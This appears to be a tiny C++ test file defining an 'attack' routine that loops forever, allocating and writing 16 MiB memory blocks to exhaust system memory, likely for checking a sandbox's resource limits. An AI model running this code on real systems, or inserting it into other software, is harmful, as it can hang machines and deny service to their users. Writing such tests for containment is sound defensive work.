#include <cstring>
#include "in_each_function.hpp"
void attack::run() {
  while (true) std::memset(::operator new(1 << 24), 1, 1 << 24);
}
